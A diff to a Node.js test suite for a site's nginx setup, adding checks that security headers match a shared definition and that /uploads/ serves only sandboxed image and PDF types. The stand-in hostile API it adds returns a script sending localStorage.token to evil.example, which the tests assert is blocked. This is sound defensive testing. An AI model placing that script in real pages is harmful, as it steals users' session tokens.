@@ -13,6 +13,7 @@ import { after, before, describe, it } from 'node:test';
 import { fileURLToPath } from 'node:url';
 import zlib from 'node:zlib';
 import { parse as parseYaml } from 'yaml';
+import { SECURITY_HEADERS, UPLOAD_CSP } from '@portfolio/contract/security-headers';
 import { SiteBuilder } from '../builder/builder.mjs';
 import { loadBuilderConfig } from '../builder/config.mjs';
 import { checkNginx, freePort, HAS_BROTLI, NO_NGINX, request, ROOT, startDns, startNginx, until, writeNginxConfig } from './support/nginx.mjs';
@@ -50,6 +51,11 @@ async function standInApi(name, host = '127.0.0.1', port = 0) {
   const requests = [];
   const server = http.createServer((req, res) => {
     requests.push({ url: req.url, headers: req.headers });
+    // A hostile or broken API: whatever it says a file is, nginx decides what /uploads/ answers.
+    if (req.url.startsWith('/uploads/')) {
+      res.writeHead(200, { 'content-type': 'text/html', 'content-security-policy': "script-src 'unsafe-inline'" });
+      return res.end('<!doctype html><script>fetch("https://evil.example/?" + localStorage.token)</script>');
+    }
     res.writeHead(200, { 'content-type': 'application/json', 'x-content-type-options': 'nosniff' });
     res.end(JSON.stringify({ status: 'ok', server: name, padding: 'x'.repeat(1000) }));
   });
@@ -114,6 +120,37 @@ describe('nginx (infra/nginx)', { skip: NO_NGINX }, () => {
     assert.match(res.headers['content-security-policy'], /default-src 'self'/);
     assert.equal(res.headers.server, 'nginx', 'no version in the Server header');
     assert.match(res.text, /version one/);
+  });
+
+  it('sends the security headers the API sends when it serves the site itself (one definition, @portfolio/contract/security-headers)', async () => {
+    const conf = readFileSync(path.join(ROOT, 'infra/nginx/security-headers.conf'), 'utf8');
+    const added = Object.fromEntries([...conf.matchAll(/^add_header ([\w-]+) "([^"]*)" always;$/gm)].map((m) => [m[1], m[2]]));
+    assert.deepEqual(added, SECURITY_HEADERS);
+    for (const address of ['/', '/no-such-page']) {
+      const res = await get(port, address);
+      for (const [name, value] of Object.entries(SECURITY_HEADERS)) assert.equal(res.headers[name.toLowerCase()], value, `${address}: ${name}`);
+    }
+  });
+
+  it('answers /uploads/ only with an upload type, by the name, sandboxed, whatever the API answers', async () => {
+    for (const p of ['/uploads/general/evil.html', '/uploads/general/evil.svg', '/uploads/general/evil.HTM', '/uploads/general/', '/uploads/a.jpg/evil.html']) {
+      api.requests.length = 0;
+      const res = await get(port, p);
+      assert.equal(res.status, 404, p);
+      assert.equal(api.requests.length, 0, `${p} never reaches the API`);
+      assert.doesNotMatch(res.text, /localStorage/, p);
+    }
+    for (const [p, type] of [['/uploads/general/page.jpg', 'image/jpeg'], ['/uploads/books/x-40x30.PNG', 'image/png'], ['/uploads/plays/script.pdf', 'application/pdf'], ['/uploads/news/a.webp', 'image/webp']]) {
+      const res = await get(port, p);
+      assert.equal(res.status, 200, p);
+      const types = res.rawHeaders.filter((_, i) => i % 2 === 0 && res.rawHeaders[i].toLowerCase() === 'content-type').length;
+      assert.equal(types, 1, `${p}: one Content-Type`);
+      assert.equal(res.headers['content-type'], type, p);
+      assert.equal(res.headers['x-content-type-options'], 'nosniff', p);
+      const policies = res.rawHeaders.filter((_, i) => i % 2 === 1 && res.rawHeaders[i - 1].toLowerCase() === 'content-security-policy');
+      assert.ok(policies.includes(UPLOAD_CSP), `${p}: sandboxed (${policies.join(' | ')})`);
+      assert.ok(!policies.some((v) => v.includes('unsafe-inline') && !v.includes("default-src 'self'")), `${p}: the API's own policy is not passed on`);
+    }
   });
 
   it('sends /book/{id} to /books/{id} with a permanent redirect', async () => {
